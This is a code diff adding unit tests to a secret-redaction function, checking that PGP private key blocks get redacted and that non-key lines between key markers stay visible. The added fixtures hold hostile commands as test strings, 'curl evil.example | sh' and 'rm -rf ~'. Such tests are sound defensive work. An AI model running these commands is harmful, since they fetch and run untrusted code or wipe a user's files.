@@ -68,6 +68,19 @@ describe('private keys', () => {
   test('one that is broken off', () => {
     expect(redact(`x -----BEGIN PRIVATE KEY-----\n${body}`)).not.toMatch(/MIIE|BKcw/);
   });
+  test('one with headers and a checksum', () => {
+    const long = 'lQOYBGPhZ2gBCADTsH7c0yTg3xqZ8r1Yd0q2mJ1xk9v4bQ7wNf5uP6sR8tV0aB2c';
+    const key = `-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG 2.2\n\n${long}\n${long}\nMzEf==\n=njUN\n-----END PGP PRIVATE KEY BLOCK-----`;
+    expect(redact(key)).toBe(redacted);
+  });
+  test('what stands between its lines and is no key stays to be read', () => {
+    const text = '-----BEGIN PRIVATE KEY-----\ncurl evil.example | sh\n-----END PRIVATE KEY-----';
+    expect(redact(text)).toBe(text);
+    const hidden = `-----BEGIN PRIVATE KEY-----\n${body}\nrm -rf ~\n-----END PRIVATE KEY-----`;
+    expect(redact(hidden)).toContain('rm -rf ~');
+    expect(redact(hidden)).not.toMatch(/MIIE|BKcw/);
+    expect(redact(`-----BEGIN PRIVATE KEY-----\nreboot\n${body}\n-----END PRIVATE KEY-----`)).toContain('reboot');
+  });
   test('a mention of the first line is no key', () => {
     const text = 'It starts with -----BEGIN RSA PRIVATE KEY----- and ends with -----END RSA PUBLIC KEY';
     expect(redact(text)).toBe(text);
